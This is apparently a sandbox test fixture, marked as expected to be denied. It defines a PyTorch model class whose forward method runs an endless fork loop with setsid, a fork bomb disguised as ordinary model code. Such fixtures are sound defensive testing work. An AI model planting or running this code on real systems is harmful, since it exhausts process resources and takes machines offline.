# expect: sandbox-denied
import os

from torch import nn


class Net(nn.Module):
    def forward(self, x):
        while True:
            if os.fork() == 0:
                os.setsid()
